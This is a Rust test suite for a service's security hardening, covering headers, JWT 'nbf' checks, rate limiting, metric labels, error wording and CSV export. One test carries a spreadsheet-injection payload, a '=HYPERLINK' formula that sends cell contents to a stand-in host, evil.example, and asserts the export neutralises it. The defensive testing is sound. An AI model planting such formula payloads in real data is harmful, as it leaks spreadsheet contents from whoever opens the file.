//! The surface hardened (SPEC §13 "Hardening"): security headers, `nbf`, the rate limit
//! keyed on the verified caller with idle keys forgotten, bounded metric labels, the
//! docs without an external validator, and error details in the API's own words.

use jsonwebtoken::{Algorithm, EncodingKey, Header};
use reqwest::Method;
use serde_json::json;

use crate::both_backends;
use crate::helpers::{SECRET, spawn_app_with};

fn now_secs() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

fn sign(claims: serde_json::Value) -> String {
    jsonwebtoken::encode(
        &Header::new(Algorithm::HS256),
        &claims,
        &EncodingKey::from_secret(SECRET.as_bytes()).expect("key"),
    )
    .expect("sign")
}

both_backends!(every_surface_carries_security_headers, |app| {
    for (path, csp) in [
        (
            "/v1/customers",
            "default-src 'none'; frame-ancestors 'none'",
        ),
        ("/healthz", "default-src 'none'; frame-ancestors 'none'"),
        ("/console/login", securehands::http::headers::CONSOLE_CSP),
    ] {
        let r = app.send(Method::GET, path, None, None, &[]).await;
        assert_eq!(r.header("content-security-policy"), Some(csp), "{path}");
        assert_eq!(
            r.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
        assert_eq!(r.header("referrer-policy"), Some("same-origin"), "{path}");
        assert_eq!(r.header("x-frame-options"), Some("DENY"), "{path}");
        assert!(
            r.header("strict-transport-security").is_none(),
            "plain http: {path}"
        );
    }
    let docs = app
        .send(Method::GET, "/docs/", None, None, &[])
        .await
        .expect(200);
    let csp = docs.header("content-security-policy").unwrap_or_default();
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    // Swagger UI never asks validator.swagger.io about the document.
    let init = app
        .send(Method::GET, "/docs/swagger-initializer.js", None, None, &[])
        .await
        .expect(200);
    assert!(
        init.text.contains("\"validatorUrl\": \"none\""),
        "{}",
        init.text
    );
});

#[tokio::test]
async fn hsts_when_published_over_https() {
    let app = spawn_app_with(crate::helpers::Backend::Sqlite, |s| {
        s.public_url = "https://securehands.example.com".into();
    })
    .await;
    let r = app.send(Method::GET, "/healthz", None, None, &[]).await;
    assert_eq!(
        r.header("strict-transport-security"),
        Some("max-age=31536000; includeSubDomains")
    );
}

both_backends!(a_token_not_valid_yet_is_refused, |app| {
    let claims =
        |nbf: u64| json!({"sub": "x", "roles": ["admin"], "exp": now_secs() + 3600, "nbf": nbf});
    let early = app
        .send(
            Method::GET,
            "/v1/customers",
            Some(&sign(claims(now_secs() + 600))),
            None,
            &[],
        )
        .await
        .expect_problem(401, "unauthorized");
    assert!(early.text.contains("not valid yet"), "{}", early.text);
    app.send(
        Method::GET,
        "/v1/customers",
        Some(&sign(claims(now_secs() - 10))),
        None,
        &[],
    )
    .await
    .expect(200);
});

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn junk_tokens_do_not_escape_the_rate_limit() {
    let app = spawn_app_with(crate::helpers::Backend::Sqlite, |s| {
        s.rate_limit_per_second = 20;
    })
    .await;
    // 200 requests, each with a different junk token, from one client address: they
    // share that address's bucket (40 at most in a burst).
    let mut limited = 0;
    for i in 0..200 {
        let r = app
            .send(
                Method::GET,
                "/v1/customers",
                Some(&format!("junk-{i}")),
                None,
                &[],
            )
            .await;
        if r.status.as_u16() == 429 {
            limited += 1;
        }
    }
    assert!(
        limited >= 100,
        "only {limited} of 200 junk requests were limited"
    );
    // A verified caller has its own bucket.
    app.send(Method::GET, "/v1/customers", Some(&app.am()), None, &[])
        .await
        .expect(200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_callers_are_forgotten_by_the_limiter() {
    let app = spawn_app_with(crate::helpers::Backend::Sqlite, |s| {
        s.rate_limit_per_second = 50;
    })
    .await;
    for i in 0..60 {
        let token = sign(
            json!({"sub": format!("system-{i}"), "roles": ["account_manager"], "exp": now_secs() + 600}),
        );
        app.send(Method::GET, "/v1/customers", Some(&token), None, &[])
            .await
            .expect(200);
    }
    assert!(app.state.limits.rate_keys() >= 60, "each caller has a key");
    // A bucket of 100 refills at 50/s: after 2 s every caller is idle.
    tokio::time::sleep(std::time::Duration::from_millis(2_200)).await;
    assert_eq!(
        app.state.limits.prune_rate_keys(),
        0,
        "idle keys are forgotten"
    );
}

both_backends!(metric_labels_take_known_values_only, |app| {
    for method in ["AAA1", "BREW", "X-ANYTHING"] {
        let m = Method::from_bytes(method.as_bytes()).expect("method");
        let _ = app
            .send(m, "/v1/customers", Some(&app.am()), None, &[])
            .await;
    }
    let _ = app
        .send(
            Method::GET,
            "/v1/no-such/route-abc123",
            Some(&app.am()),
            None,
            &[],
        )
        .await;
    let metrics = app
        .send(Method::GET, "/metrics", None, None, &[])
        .await
        .expect(200);
    for leaked in ["AAA1", "BREW", "X-ANYTHING", "route-abc123"] {
        assert!(!metrics.text.contains(leaked), "{leaked} became a label");
    }
    assert!(
        metrics.text.contains("method=\"other\""),
        "{}",
        metrics.text
    );
    assert!(metrics.text.contains("route=\"unmatched\""));
});

both_backends!(error_details_are_in_the_services_words, |app| {
    let c = app.customer_paris().await;
    let r = app
        .patch(
            &format!("/v1/customers/{c}"),
            &app.am(),
            json!({"contacts": [{"name": "A", "email": "a@b.example", "language": "none", "roles": ["approver"]}]}),
        )
        .await
        .expect_problem(422, "validation_failed");
    assert!(!r.text.contains("unknown variant"), "{}", r.text);
    assert!(!r.text.contains("expected one of"), "{}", r.text);
    let r = app.post("/v1/calendars-nope", &app.am(), json!({})).await;
    assert_eq!(r.status.as_u16(), 404);
    let bad = app
        .send(
            Method::POST,
            "/v1/customers",
            Some(&app.am()),
            None,
            &[("content-type", "application/json")],
        )
        .await;
    assert!(!bad.text.contains("serde"), "{}", bad.text);
});

both_backends!(csv_exports_neutralise_formulas_in_free_text, |app| {
    let c = app.customer_paris().await;
    let evil = sign(
        json!({"sub": "=HYPERLINK(\"http://evil.example/\"&A1)", "roles": ["account_manager"],
        "exp": now_secs() + 600}),
    );
    app.post(
        &format!("/v1/customers/{c}/packs"),
        &evil,
        json!({"units": "1.00", "order_reference": "PO-1"}),
    )
    .await
    .expect(201);
    let csv = app
        .send(
            Method::GET,
            &format!("/v1/ledger?customer_id={c}"),
            Some(&app.finance()),
            None,
            &[("accept", "text/csv")],
        )
        .await
        .expect(200);
    let row = csv.text.lines().nth(1).unwrap_or_default();
    assert!(row.contains("\"'=HYPERLINK("), "{row}");
    assert!(
        !row.contains(",=HYPERLINK(") && !row.contains(",\"=HYPERLINK("),
        "{row}"
    );
    // Units keep their sign: only free text is touched.
    assert!(row.contains(",1.00,"), "{row}");
});
